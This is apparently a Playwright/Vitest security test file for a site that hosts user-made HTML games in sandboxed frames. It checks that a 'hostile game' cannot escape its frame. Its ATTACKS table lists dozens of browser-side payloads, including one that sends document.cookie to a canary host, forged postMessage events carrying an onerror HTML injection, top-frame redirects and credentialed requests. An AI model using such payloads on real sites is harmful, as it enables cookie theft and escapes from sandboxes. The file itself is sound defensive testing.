import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { fetchAnswer, sendAsTeamMember } from '#tests/helpers/api-caller';
import { launchTestBrowser } from '#tests/helpers/browser';
import { openHomeAs, openLink } from '#tests/helpers/journeys/navigation';
import { submitSignUpForm } from '#tests/helpers/journeys/sign-up';
import { type Canary, startCanary } from './canary.ts';

const { open } = launchTestBrowser({ causedErrors: /./ });
let canary: Canary;
beforeAll(async () => {
  canary = await startCanary();
});
afterAll(() => canary.stop());

/** What a game may try. Each attack says what it reached; a thrown error is a refusal. `C` is another site, `S` this one. */
const ATTACKS: Record<string, string> = {
  'read cookies': 'return document.cookie',
  'read local storage': 'return localStorage.length + 1',
  'read session storage': 'return sessionStorage.length + 1',
  'open a database':
    'return await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("opened"); r.onerror = no; })',
  'read the cache': 'return (await caches.keys()).length + 1',
  'read the page around it': 'return parent.document.title',
  'read the window that opened it': 'return top.localStorage.length + 1',
  'lead the page away': 'top.location = C + "/top"; await wait(); return ""',
  'lead the page away by a link':
    'const a = Object.assign(document.createElement("a"), { href: C + "/a", target: "_top" }); document.body.append(a); a.click(); return ""',
  'open a window': 'return open(C + "/popup") && "opened"',
  'open a window by a link':
    'const a = Object.assign(document.createElement("a"), { href: C + "/blank", target: "_blank" }); document.body.append(a); a.click(); return ""',
  'open a dialog': 'alert("x"); return ""',
  'send a form':
    'const f = Object.assign(document.createElement("form"), { action: C + "/form", method: "post" }); document.body.append(f); f.submit(); return ""',
  'send a form to this site':
    'const f = Object.assign(document.createElement("form"), { action: S + "/unsubscribe", method: "post" }); document.body.append(f); f.submit(); return ""',
  fetch: 'return (await fetch(C + "/fetch?" + document.cookie)).status',
  'fetch this site': 'return (await fetch(S + "/v1/auth/current_user", { credentials: "include" })).status',
  'fetch without reading': 'return (await fetch(C + "/no-cors", { mode: "no-cors" })).type',
  'fetch later': 'return fetchLater ? fetchLater(C + "/later", { activateAfter: 0 }).activated : ""',
  XMLHttpRequest:
    'return await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.open("GET", C + "/xhr"); r.onload = () => ok(r.status); r.onerror = no; r.send(); })',
  'send a beacon': 'navigator.sendBeacon(C + "/beacon", "x"); return ""',
  'listen to events': 'new EventSource(C + "/events"); return ""',
  'open a socket': 'new WebSocket(C.replace("http", "ws") + "/socket"); return ""',
  'load a picture': 'new Image().src = C + "/image"; return ""',
  'load a responsive picture': 'const i = new Image(); i.srcset = C + "/srcset 2x"; return ""',
  'load sound': 'new Audio(C + "/audio").load(); return ""',
  'load a film':
    'const v = document.createElement("video"); v.poster = C + "/poster"; v.src = C + "/video"; document.body.append(v); v.load(); return ""',
  'load a background': 'document.body.style.backgroundImage = "url(" + C + "/background)"; return ""',
  'load a cursor': 'document.body.style.cursor = "url(" + C + "/cursor), auto"; return ""',
  'load a font': 'await new FontFace("x", "url(" + C + "/font)").load(); return "loaded"',
  'import styles':
    'const s = document.createElement("style"); s.textContent = "@import url(" + C + "/import);"; document.head.append(s); return ""',
  'link styles':
    'const l = Object.assign(document.createElement("link"), { rel: "stylesheet", href: C + "/style" }); document.head.append(l); return ""',
  'load a script': 'const s = Object.assign(document.createElement("script"), { src: C + "/script" }); document.head.append(s); return ""',
  'import a module': 'return typeof (await import(C + "/module"))',
  preload:
    'for (const as of ["image", "script", "style", "font", "fetch"]) document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as, href: C + "/preload-" + as, crossOrigin: "" })); return ""',
  'preload a module':
    'document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: C + "/modulepreload" })); return ""',
  prefetch: 'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: C + "/prefetch" })); return ""',
  prerender: 'document.head.append(Object.assign(document.createElement("link"), { rel: "prerender", href: C + "/prerender" })); return ""',
  'speculation rules':
    'const s = Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [C + "/speculation"], eagerness: "immediate" }] }) }); document.head.append(s); return ""',
  'load an icon': 'document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: C + "/icon" })); return ""',
  'load a manifest':
    'document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: C + "/manifest" })); return ""',
  'ping by a link':
    'const a = Object.assign(document.createElement("a"), { href: "#x", ping: C + "/ping" }); document.body.append(a); a.click(); return ""',
  'embed a frame': 'document.body.append(Object.assign(document.createElement("iframe"), { src: C + "/frame" })); return ""',
  'embed a frame with markup':
    'document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<img src=" + C + "/srcdoc><script src=" + C + "/srcdoc-script><\\/script>" })); return ""',
  'embed an object':
    'document.body.append(Object.assign(document.createElement("object"), { data: C + "/object" }), Object.assign(document.createElement("embed"), { src: C + "/embed" })); return ""',
  'start a worker': 'new Worker(C + "/worker"); return ""',
  'start a worker of its own':
    'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(C + "/blob-worker") + ")"]))); return ""',
  'start a shared worker': 'new SharedWorker(C + "/shared"); return ""',
  'register a service worker': 'await navigator.serviceWorker.register(S + "/sw.js"); return "registered"',
  'change the base':
    'document.head.append(Object.assign(document.createElement("base"), { href: C })); const i = new Image(); i.src = "based"; return ""',
  'forge a message of a player':
    'for (const type of ["CONTENT_RESULT", "QUIZLARK_RESIZE", "QUIZLARK_PAGE_LOADED", "preview", "preview-ready"]) parent.postMessage({ type, id: "x", html: "<img src=x onerror=document.title=1>", height: 1e9 }, "*"); return ""',
  'use the camera': 'await navigator.mediaDevices.getUserMedia({ video: true }); return "camera"',
  'read the clipboard': 'return await navigator.clipboard.readText() + "!"',
};
/** Ends the document, so each runs in a game of its own: the frame leads itself to the other site. */
const DEPARTURES: Record<string, string> = {
  'replace its address': 'location.replace(C + "/replace")',
  'follow a link': 'const a = Object.assign(document.createElement("a"), { href: C + "/self" }); document.body.append(a); a.click()',
  'refresh itself':
    'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + C + "/refresh" }))',
  'open itself': 'open(C + "/open-self", "_self")',
};

const buildGame = (script: string) => `<!doctype html><title>Hostile</title><body><script>
const C = ${JSON.stringify(canary.origin)}, S = ${JSON.stringify(inject('origin'))};
const wait = () => new Promise((done) => setTimeout(done, 500));
${script}
</script></body>`;

const buildAttacks = () => {
  const attacks = Object.entries(ATTACKS).map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`);
  return `(async () => {
    const reached = [];
    for (const [name, run] of [${attacks.join(',\n')}])
      try { const result = await Promise.race([run(), wait()]); if (result) reached.push(name + ": " + result); } catch {}
    document.title = "done";
    window.reached = reached;
  })();`;
};

async function publishGame(title: string, html: string): Promise<string> {
  const response = await sendAsTeamMember('POST /v1/articles', {
    title,
    htmlContent: html,
    status: 'public',
    userStatus: 'internal',
  });
  expect(response.status).toBe(201);
  return (await response.json()).urlName;
}

/** Opens the game's article as a signed-in person. */
async function openGame(urlName: string, prepare: (page: Page) => void = () => {}) {
  const page = await openHomeAs(open, 'jo_wren');
  prepare(page);
  await openLink(page, `/article/${urlName}`);
  await page.locator('[data-game]').scrollIntoViewIfNeeded();
  return page;
}
const findGameFrame = (page: Page) => page.frames().find((frame) => frame !== page.mainFrame());

test(`a hostile game in its article reaches nothing in ${Object.keys(ATTACKS).length} ways: no request arrives elsewhere, none has the session`, async () => {
  const urlName = await publishGame('A hostile game', buildGame(buildAttacks()));
  canary.requests.length = 0;
  const sentSessions: string[] = [];
  const page = await openGame(urlName, (opened) =>
    opened.context().on('request', async (request) => {
      if (request.frame() === opened.mainFrame()) return;
      const { pathname } = new URL(request.url());
      if ((await request.allHeaders())['cookie']?.includes('ql_session')) sentSessions.push(`${request.method()} ${pathname}`);
    }),
  );
  await page.waitForFunction(() => document.querySelector('[data-game]') !== null);
  const title = await page.title();
  await expect.poll(() => findGameFrame(page)?.evaluate(() => document.title)).toBe('done');
  const reached = await findGameFrame(page)?.evaluate(() => (window as unknown as { reached: string[] }).reached);
  expect(reached).toEqual([]);
  // A request that was started late has arrived by now.
  await page.waitForTimeout(1_500);
  expect(canary.requests).toEqual([]);
  // The article's page asks for the game with the session, before the game runs.
  expect(sentSessions).toEqual([expect.stringMatching(/^GET \/games\/\w+\/frame$/)]);
  const url = `${inject('origin')}/article/${urlName}`;
  expect([page.url(), await page.title(), page.context().pages().length]).toEqual([url, title, 1]);
});

test.each(Object.entries(DEPARTURES))('a game in its article cannot lead its frame to another site: %s', async (name, script) => {
  const urlName = await publishGame(`A game that departs: ${name}`, buildGame(script));
  canary.requests.length = 0;
  const page = await openGame(urlName);
  await page.waitForTimeout(2_000);
  expect(canary.requests).toEqual([]);
  expect(page.frames().filter((frame) => frame.url().startsWith(canary.origin))).toEqual([]);
});

test('a link to a game’s document leads to its article, and signing in with it as the way back leads home', async () => {
  const urlName = await publishGame('A game by its link', buildGame('document.title = "phishing"'));
  const { UID } = await fetchAnswer(`/v1/articles/${urlName}`);
  const page = await open(`/games/${UID}/frame`);
  expect(new URL(page.url()).pathname).toBe(`/article/${urlName}`);
  await page.getByRole('heading', { name: 'A game by its link' }).waitFor();
  await openLink(page, `/auth?mode=REGISTER&signed_in_url=${encodeURIComponent(`/games/${UID}/frame`)}`);
  await submitSignUpForm(page, `player_${Date.now().toString(36)}`);
  await page.waitForURL(`${inject('origin')}/home`);
});
